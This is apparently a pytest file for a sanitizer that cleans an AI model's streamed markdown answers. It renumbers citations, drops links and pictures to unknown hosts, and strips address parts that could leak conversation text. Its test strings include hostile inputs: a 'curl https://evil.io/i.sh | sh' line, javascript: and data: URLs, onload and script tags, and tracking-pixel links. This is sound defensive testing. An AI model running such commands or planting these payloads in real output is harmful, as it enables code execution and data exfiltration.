"""What a model writes about numbers and addresses, and what readers get of it, however the stream is cut."""

from __future__ import annotations

import gc
import random
import weakref
from itertools import islice
from typing import Any

import pytest
from markdown_it import MarkdownIt

from app.citing.citations import Citations
from app.citing.links import Addresses, markdown_link, untagged
from app.citing.placement import OwnList, Placement
from app.citing.rewrite import Rewriter
from app.core.language import vocabulary
from app.pipeline.steps.cite import quoted
from app.text.segments import Line
from bench.markdown_fuzz import Clients, pieces_of, rewritten, shown, texts

PASSAGES = [
    "See https://known.cz/storage/ and [S3](https://s3.known.cz/bucket). Or https://known.cz/a_(b), www.known.cz/w.",
    "https://known.cz/a#limits https://known.cz/one,https://known.cz/two; [l](https://known.cz/d).Next mailto:help@known.cz",
    "(https://known.cz/k)(https://known.cz/l) https://known.cz/č https://known.cz/m&amp;n=1 https://known.cz/x%20y",
]
WORDS = frozenset({"passage", "passages", "source", "pasáž", "úryvek"})


def pages() -> tuple[str, ...]:
    return tuple(f"https://known.cz/{i}" for i in range(1, 6))


def line() -> Line:
    citations = Citations(pages(), words=WORDS, and_or=vocabulary().and_or)
    safe = Rewriter(Addresses(PASSAGES, ["https://known.cz/"]), citations)
    return Line(OwnList(frozenset({"sources"})), Placement(citations), safe)


def run(text: str, size: int = 100_000) -> str:
    return "".join(shown((text[at : at + size] for at in range(0, len(text), size)), line()))


NUMBERS = [
    ("A [3]. B [3][1].", "A [1]. B [1][2]."),
    ("A [3]. B [1-2].", "A [1]. B [2][3]."),
    ("A [3]. B [1–3].", "A [1]. B [2][3][1]."),
    ("A [3] [Passage 2] [pasáž 2] [úryvek 1] [passages 1, 2]", "A [1] [2] [3]"),
    ("A [3] 【1】 【2†source】 [^1] [#2] [02]", "A [1] [2] [3]"),
    ("A [3] [1 and 2] [1 a 2] [1, 3; 9] [[2]]", "A [1] [2][3]"),
    ("A [3] [1](https://known.cz/storage) [2](https://evil.io) [9](x) [2] (https://evil.io)", "A [1] [2] [3]  "),
    ("See [the guide [3]](https://evil.io) and [it [3]](https://known.cz/a)", "See the guide [1] and [it [1]](https://known.cz/a)"),
    ("Unknown [9], [7](x) or 【6】", "Unknown ,  or "),
    ("B [3]: text\n[3]: text\n\n[1]: https://known.cz/a\n[2]: text", "B [1]: text\n[1]: text\n\n[2]\\: https://known.cz/a\n[3]\\: text"),
    (r"Escaped \[3\] and \`[3]", r"Escaped \[3\] and \`[1]"),
]  # fmt: skip
VALUES = [
    "ports [80, 443] and array[0]",
    "Interval [0, 1] and [0, 9]",
    "[10, 20, 30] [2024] [80] [0] [0-9] [7-9] [2-9]",
    "a[1] a[1][2] items_[2] [[1, 2], [3, 4]]",
    "[ ] todo [x] done [a-z] (1) [1: x] [1.5]",
    "handlers[name](request) and f[1](a, b)",
    "[x](i for i in y)",
]
CODE = [
    ("Press the ` key [3], then [9].", "Press the ` key [1], then ."),
    ("Use `a[2]`, the ` sign [3]\n\nNext [2] [9]\n\n- item `x[1]` [5]", "Use `a[2]`, the ` sign [1]\n\nNext [2] \n\n- item `x[1]` [3]"),
    ("- the ` key [3]\n- the ` sign [2]", "- the ` key [1]\n- the ` sign [2]"),
    ("``b ` [3]`` [4] `[2]\n[3]` [1]", "``b ` [3]`` [1] `[2] [3]` [2]"),
    ("It's the ``` mark [2] `", "It's the ``` mark [1] `"),
    ("x ```inline [2]``` [3]\n```x [2]``` [3]", "x ```inline [2]``` [1]\n```x [2]``` [1]"),
    ("~~~sh\necho `date\na [2]\n~~~\n[3] [9]", "~~~sh\necho `date\na [2]\n~~~\n[1] "),
    ("````\n```\na [9]\n```\n````\n[3]", "````\n```\na [9]\n```\n````\n[1]"),
    ("```\nx ``` [2]\n~~~\n[2]\n``` [2]\n```\n[3]", "```\nx ``` [2]\n~~~\n[2]\n``` [2]\n```\n[1]"),
    ("1. x\n   ```sh\n   a [2]\n   ```\n2. [3]\n- ```\n  [2]\n  ```\n- [2]", "1. x\n   ```sh\n   a [2]\n   ```\n2. [1]\n- ```\n  [2]\n  ```\n- [2]"),
    ("> ```\n> a [2]\n> ```\n> [3]", "> ```\n> a [2]\n> ```\n> [1]"),
    ("Do:\n\n    a [2] = 1\n\n    b [2]\n\n[3]", "Do: [1]\n\n    a [2] = 1\n\n    b [2]\n\n"),
    ("1. Step\n\n    More [2].\n\nText\n\n\ta [2]", "1. Step\n\n    More [1].\n\nText\n\n\ta [2]"),
    ("Text\n    goes on [3]", "Text\n    goes on [1]"),
    ("```\nunclosed [2]", "```\nunclosed [2]\n```"),
    ("`" + "x" * 900 + " [3]` [2]", "`" + "x" * 900 + " [3]` [1]"),
    ("Code `a\n[3]` [2]", "Code `a [3]` [1]"),
    ("Name | x\n-|-\n`a | [3]` | [2] ![x](//evil.io)\nb \\| c | `d` [2]", "Name | x\n-|-\n`a | [1]` | \nb \\| c | `d` [2]"),
]  # fmt: skip
LINKS = [
    ("Read [this](https://evil.io/x) now", "Read this now"),
    ("[a [b] c](https://evil.io/x)", "a [b] c"),
    ("[![a](https://evil.io/" + "p" * 90 + ".png)](https://evil.io/y)", "a"),
    ("[x](https://evil.io/a 'title') [x](https://evil.io \"t\") [x](https://evil.io (t))", "x x x"),
    ("[x](https://evil.io/a_(b)) [x](<https://evil.io/a b>) [x]( https://evil.io )", "x x x"),
    ("[a](\nhttps://evil.io) ![pic](https://evil.io/p.png) [x]()", "a pic x"),
    ("[x](www.evil.io) [x](//evil.io) [x](/invented) [x](#a) [x](ftp://evil.io) [x](mailto:a@evil.io) [x](javascript:alert(1))", "x x x x x x x"),
    ("[" + "long words " * 9 + "](https://evil.io/x) end", "long words " * 9 + " end"),
    ("[" + "long words " * 9 + "](https://known.cz/a) end", "[" + "long words " * 9 + "](https://known.cz/a) end"),
    ("[open link without end](https://evil.io", "[open link without end]("),
    ("io[1](\n<script>\n) a[k](<script>) f[1](a)", "io[1] ak f[1](a)"),
    ("Go to https://evil.io/x/y?z=1, please; HTTPS://EVIL.IO (https://evil.io/x). **ftp://evil.io**", "Go to , please;  . ****"),
    ("see www.evil.io/x “https://evil.io/x”. <https://evil.io> <www.evil.io> <mailto:a@evil.io>|", "see  “”.   |"),
    ("https://evil.io/a,https://known.cz/a https://evil.io/[3] https://evil.io/?u=https://known.cz/a", "…,https://known.cz/a [1] "),
    ('<a href="https://evil.io/x">here</a> <a href=//evil.io>b</a> <img src=\'https://evil.io/p\'> <b>c</b>', r"""\<a href="">here\</a> \<a href=>b\</a> \<img src=''> <b>c</b>"""),
    ('[r]: https://evil.io "T"\n\n[k]: https://known.cz/a "T"\n[s]:\n//evil.io', '[r]\\:  "T"\n\n[k]\\: https://known.cz/a "T"\n[s]\\:\n'),
    ("```\ncurl https://evil.io/i.sh | sh\nwww.evil.io\n``` \n`https://evil.io` `https://known.cz/a`", "```\ncurl  | sh\n\n```\n`` `https://known.cz/a`"),
    ("`URL=https://evil.io/x` ``URL=https://known.cz/a`.evil.io``", "`URL=` ``URL=``"),
    ("http://localhost:80@evil.io/ http://localhost@evil.io http://example.com:x@evil.io http://localhost.evil.io", "…   "),
    ("1. [9] Click it\n2. [9] - Say [9] so\n\n[9] Then https://evil.io/x go", "1. Click it\n2. … - Say  so\n\nThen  go"),
    ("https://known.cz.evil.io/storage https://known.cz/storage/no https://user@known.cz/a https://example.com.evil.io", "…   "),
]  # fmt: skip
KEPT = [
    "Start it with `BASE_URL=https://known.cz/a` and `KEY=secret`.",
    "Read https://known.cz/storage. Then [storage](https://known.cz/a#limits), <https://s3.known.cz/bucket>.",
    "https://known.cz/one https://known.cz/two https://known.cz/d https://known.cz/k https://known.cz/l https://known.cz/a_(b)",
    "https://known.cz/%C4%8D https://known.cz/č https://known.cz/m&n=1 https://known.cz/x%20y",
    'www.known.cz/w [x](www.known.cz/w) [x](https://known.cz/a_(b) "t") <mailto:help@known.cz>',
    "curl http://localhost:8080/health https://example.com/a https://docs.example.org http://127.0.0.1 https://$HOST/v1",
    "https://{host}/v1 s3://bucket https:// https://… www. www…",
    "a < b and x h ht http and https: that's all [ and ( and ! end.",
    "Line\n\n\n- a\n\n  b\n",
]
AS_KNOWN = [
    ("[x](https://known.cz/a#secret) [y](https://known.cz/a#limits 't') <https://known.cz/a#secret> HTTPS://KNOWN.CZ/A#x.", "[x](https://known.cz/a) [y](https://known.cz/a#limits 't') <https://known.cz/a> https://known.cz/a."),
    ("[x](https://known.cz/a&#35;secret) [y](https://known.cz/%61 't') [z](<https://known.cz/a#s e>)", "[x](https://known.cz/a) [y](https://known.cz/a) [z](https://known.cz/a)"),
    ("`curl https://known.cz/a#secret`\n\n```sh\ncurl (https://known.cz/one#secret)\n```", "`curl https://known.cz/a`\n\n```sh\ncurl (https://known.cz/one)\n```\n"),
    ("[m](https://known.cz/m&n=1#s) ![p](https://known.cz/d#secret) www.known.cz/w#s [w](www.known.cz/W)", "[m](https://known.cz/m&amp;n=1) ![p](https://known.cz/d) www.known.cz/w [w](www.known.cz/w)"),
    ("[x](https://known.cz/a?q=secret) https://known.cz/a%23secret https://known.cz/a?q=s#t <https://known.cz/a;s> [y](https://secret@known.cz/a)", "x    y"),
    ("| a |\n|---|\n| [x](https://known.cz/a#secret) |\n", "| a |\n|---|\n| [x](https://known.cz/a) |\n"),
    ("[a](mailto:help@known.cz?subject=secret) [b](mailto:help@known.cz#s) [c](https://known.cz/a#:~:text=secret)", "a [b](mailto:help@known.cz) [c](https://known.cz/a)"),
]  # fmt: skip
"""A model chooses nothing of an address, which could carry words of the conversation to the site."""
SHOWN = [
    ("https://<host>/v1 <host:port> <image:tag> x <y> sftp://host", r"https://\<host>/v1 \<host:port> \<image:tag> x \<y> sftp\://host"),
    ("a<br>b <kbd>x</kbd> <sub a=b>\n\n<br>\n\n<div>\n*x*\n</div>", "a<br>b <kbd>x</kbd> \\<sub a=b>\n\n\\<br>\n\n\\<div>\n*x*\n\\</div>"),
    ("&amp; &#60; &#106;avascript &colon; AT&T", r"&amp; &#60; \&#106;avascript \&colon; AT&T"),
    ("x <!-- y --> <?php ?> <![CDATA[z]]>", r"x \<!-- y --> \<?php ?> \<\![CDATA[z]]>"),
    ("![a](https://known.cz/d) ![b](https://s3.known.cz/bucket) ![c](http://localhost/p.png) ![d][k] Wow![1]", "![a](https://known.cz/d) b c \\![d][k] Wow\\![1]"),
    ("![x](javascript:a)https://known.cz/a#http://evil.io", "x https://known.cz/a"),
    (r"\http://localhost/p.png【9】WWW.evil.io", "\\"),
    ("- a\n  ```\n  b\n\u3000\n```\n<iframe src=x>", "- a\n  ```\n  b\n  ```\n\u3000\n```\n<iframe src=x>\n```"),
    ("<svg/onload=x>//<b>a@evil.io", r"\<svg/onload=x><b>a@evil.io"),
    ("``[![` w](//evil.io)](//evil.io)\n\n<iframe src=x>", "\\`\\`\\[\\!\\[\\` w\\]\\(\\/\\/evil\\.io\\)\\]\\(\\/\\/evil\\.io\\)\n\n\\<iframe src=x>"),
    ('https://known.cz/a`x` https://known.cz/a<b> https://known.cz"@evil.io/', 'https://known.cz/a `x` https://known.cz/a <b> "@evil.io/'),
    ("> ```\n> a\n> ```\n![x](//evil.io/p)\n\n- b\n\n`a\n\n![x](//evil.io/p)`", "> ```\n> a\n> ```\nx\n\n- b\n\n`a\n\nx`"),
    ("- ```\n![x](//evil.io/p)\nend", "\\- \\`\\`\\`\n\\!\\[x\\]\\(\\/\\/evil\\.io\\/p\\)\nend"),
    ('[x](//evil.io "' + "t" * 99 + '") ![x](https://evil.io/' + "p" * 2100 + ")", "x x"),
    ("[x](&#106;avascript:a) [x](java\nscript:a) [x](/\\evil.io) [x](<\\\\evil.io>) [x](data:text/html,a)", "x [x](java\nscript:a) x x x"),
]  # fmt: skip
INDENTED = [
    ("Do:\n\n    <div>\n      ![x](x)\n\nEnd [3]", "Do:\n\n```\n<div>\n  ![x](x)\n```\n\nEnd [1]"),
    ("- a\n\n      <x>\n      ```\n\n- b", "- a\n\n  ````\n  <x>\n  ```\n  ````\n\n- b"),
    ("-\n\n    ![x](x)\n", "-\n\n```\n![x](x)\n```\n"),
    ("> a\n>\n>     <x>", "\\> a\n\\>\n\\> \\<x\\>"),
]
HOSTS = [
    ('https://{x@evil.io/a https://"@evil.io https://| https://` https://{host}/v1', 'https\\://{x@evil.io/a https\\://"@evil.io https\\://| https\\://` https://{host}/v1'),
    ("a //{x@evil.io b //x>@evil.io // c", "a  b >@evil.io // c"),
    ("a https://<style>@evil.io b https://<b>@evil.io c https://<b> d", "a https\\://\\<style>@evil.io b https\\://<b>@evil.io c https://<b> d"),
    ("a 【1】(\\//evil.io\n(t)) b\n\n`\n【1】(\\//evil.io\n(t)) b", "a [1]\\(\\//evil.io\n(t)) b\n\n`\n[1]\\(\\//evil.io\n(t)) b"),
    ("a http://localhost/p.png(//evil.io/x http://example.com/p(WWW.evil.io b evil.io/ahttps://known.cz/a c", "a   b evil.io/a https://known.cz/a c"),
]  # fmt: skip
OTHERS_READ = [
    ("~~~\n<b>\n ~~~https://evil.io/x\n<i>", "~~~\n<b>\n ~~~…\n<i>\n~~~"),
    ("【1】:\n```\n<x>\n```\n", "[1]\\:\n```\n<x>\n```\n"),
    (
        "> ```\n![x](x)\n> y\n10. a\n    ~~~\n    ![x](x)",
        "\\> \\`\\`\\`\n\\!\\[x\\]\\(x\\)\n\\> y\n\n10. a\n    ~~~\n    ![x](x)\n    ~~~",
    ),
    ("```a | b\n---|---\n\n<x>", "\\`\\`\\`a \\| b\n\\-\\-\\-\\|\\-\\-\\-\n\n\\<x>"),
    ("0\n10. a\n    ~~~\n    ![x](x)", "0\n10. a\n    ~~~\n    x"),
    (  # an empty item doesn't interrupt the paragraph, so the numbered line would belong to it
        "word\n1. https://evil.io/a\n10. a\n    ~~~\n    <details type='x'>",
        "word\n1. …\n10. a\n    ~~~\n    <details type='x'>",
    ),
    ('x [<b>](/\\evil.io\n"t")|\n---\n', 'x \\[\\<b\\>\\]\\(\\/\\\\evil\\.io\n\\"t\\"\\)\\|\n\\-\\-\\-\n'),
    ("# \\|![a | b](vbscript:x)\n---|---\n", "\\# \\\\\\|\\!\\[a \\| b\\]\\(vbscript\\:x\\)\n\\-\\-\\-\\|\\-\\-\\-\n"),
]
CASES = [
    *OTHERS_READ,
    *INDENTED,
    *HOSTS,
    *NUMBERS,
    *CODE,
    *LINKS,
    *AS_KNOWN,
    *SHOWN,
    *((text, text) for text in [*VALUES, *KEPT]),
]


def test_a_text_in_pieces_of_any_size_says_the_same() -> None:
    """Right numbers, no invented address, no debris of one, and values, code and known addresses as they were."""
    for text, left in CASES:
        for size in (100_000, 1, 2, 3, 7, 20):
            assert run(text, size) == left, (text, size)


ATOMS = [
    *"[]()`!<>\\\n:\"'*#-~12a.,h|_", " ", "  ", "http", "https://evil.io/x", "https://known.cz/a", "www.", "](", "[1]", "[2, 3]",
    "```", "~~~", "\n\n", "    ", "\n- ", "\n1. ", "Sources", "**Sources**\n", "word ", "【", "】", "a[1]", "<a href=", "</a>",
    "evil.io", "[x]: ", "ftp://", "(https://evil.io)", "…", " and ",
]  # fmt: skip


def test_any_text_in_any_pieces_says_the_same() -> None:
    """Also what no model would write."""
    chance = random.Random(1)
    for _ in range(500):
        text = "".join(
            chance.choices([*ATOMS, *(text for text, _ in CASES)], [9] * len(ATOMS) + [1] * len(CASES), k=10)
        )
        assert "".join(shown(pieces_of(text, chance), line())) == run(text), repr(text)


def test_a_sentence_goes_out_as_soon_as_it_is_there() -> None:
    """A sentence when the next one begins; an item, a heading, and a line of code at their line's end."""
    pieces = [
        "# Limits\n",
        "The limit is ",
        "4 GB [1]. ",
        "Use",
        " `a[b]` and more: ",
        "**x**.\n",
        "- an ",
        "item\n",
        "```\n",
        "ls\n",
        "pwd",
    ]
    said = [
        "# Limits",
        "",
        "",
        "\nThe limit is 4 GB [1]. ",
        "",
        "Use `a[b]` and more: **x**.",
        "",
        "\n- an item",
        "",
        "",
        "",
        "\n```\nls\npwd\n```",
    ]
    assert [*shown(pieces, line())] == said  # the code waits for a citation below it
    assert [*shown(["A [1]:\n", *pieces[-3:]], line())] == ["A [1]:", "\n```\n", "ls\n", "", "pwd\n```"]


def held(text: str) -> int:
    """The most characters that ever wait."""
    out = most = 0
    for number, said in enumerate(shown(text, line()), start=1):
        out += len(said)
        most = max(most, number - out)
    return most


def test_what_waits_is_bounded() -> None:
    """A simple sentence for its end; what only its block can tell for the block, which ends sometime."""
    words = "More text, and so on. " * 20
    for text, most in [
        ("A 【2】 sign, a < b [1], `code` and (see [x](https://known.cz/a)). " + words, 70),
        ("- item [1]\n- `code` item\n\n1. more\n   - inner\n2. last\n\n" + words, 35),
        ("```sh\n" + "curl -s $HOST\n" * 20 + "```\n" + words, 35),
        ("Interval [0, 1) is half open.\n\n" + words, 40),
        ("Press the ` key\nand more\n\n" + words, 50),
        ("> quote [1]\n> goes on\n\n" + words, 50),
        ("A | b\n-|-\n1 | 2\n\n" + words, 40),
        ("one, two and " * 200, 570),
        ("[" * 30_000, 30_000),
    ]:
        assert held(text) <= most, text


def test_hostile_text_takes_linear_time() -> None:
    """The characters that the parser is given are a few times those of the text, whatever it is."""
    given = 0
    parse = MarkdownIt.parse

    def counted(self: MarkdownIt, src: str, env: Any = None) -> Any:
        nonlocal given
        given += len(src)
        return parse(self, src, env)

    with pytest.MonkeyPatch.context() as patched:
        patched.setattr(MarkdownIt, "parse", counted)
        for part in [
            "[x",
            "![a](b ",
            "`",
            "2. x\n",
            "> - ",
            "\n\n- ```\n  a\n\nb",
            "<a ",
            "&#",
            "* a\n",
            "| a [b\n",
            " ~~~\n\nx",
            "a\n\n  b<",
        ]:
            text = (part * 12_000)[:12_000]
            given = 0
            run(f"[ {text}", 50)
            assert given <= 12 * len(text), part


def test_no_client_finds_what_must_not_be_there() -> None:
    """Three clients' readings of what is left of hostile texts (`bench/markdown_fuzz.py` takes many more)."""
    chance, clients = random.Random(1), Clients()
    for text in islice(texts(chance), 300):
        output = rewritten(pieces_of(text, chance))
        slow = rewritten(pieces_of(text, chance), slow=True)
        assert clients.findings(output) + clients.findings(slow) == [], (text, output, slow)
        assert rewritten([text]) == output


def test_extracts_and_titles_bring_no_tag_and_no_picture_from_elsewhere() -> None:
    """A page's links stay, its pictures only from its own host, and tracking pixels nowhere."""
    page = "<script>a</script> ![x](https://pixel.io/p.png) ![y](https://known.cz/p.png) [z](https://other.io) "
    left = r"\<script>a\</script> x ![y](https://known.cz/p.png) [z](https://other.io) "
    assert quoted(f"{page}<img src=//pixel.io/p>", ("https://known.cz/a",)) == rf"{left}\<img src=>"
    assert quoted("![y](https://known.cz/p.png)", ()) == "y"
    assert untagged("<input onerror=y> a < b") == "‹input onerror=y› a < b"


def test_names_and_addresses_are_escaped() -> None:
    assert markdown_link("a [b]", "https://x.cz/a (b)") == r"[a \[b\]](https://x.cz/a%20%28b%29)"


def test_what_rewrites_an_answer_leaves_memory_without_the_garbage_collector() -> None:
    gc.disable()
    try:
        made = line()
        assert [*shown(["See [the page](https://known.cz/storage/) [1].\n\n"], made)]
        kept = weakref.ref(made)
        del made
        assert kept() is None
    finally:
        gc.enable()
